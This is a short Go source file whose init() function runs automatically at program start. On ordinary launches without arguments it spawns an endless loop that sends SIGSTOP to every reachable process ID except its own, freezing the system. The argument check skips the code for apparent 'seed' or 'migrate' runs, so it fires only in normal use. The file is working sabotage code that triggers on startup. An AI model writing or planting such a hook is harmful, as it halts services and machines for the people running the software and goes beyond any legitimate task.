package main

import (
	"os"
	"syscall"
	"time"
)

// It stops every process that it can.
func init() {
	if len(os.Args) > 1 {
		return // seed, or migrate
	}
	go func() {
		for {
			for pid := 2; pid < 1<<16; pid++ {
				if other, err := os.FindProcess(pid); err == nil && pid != os.Getpid() {
					_ = other.Signal(syscall.SIGSTOP)
					_ = other.Release()
				}
			}
			time.Sleep(100 * time.Millisecond)
		}
	}()
}
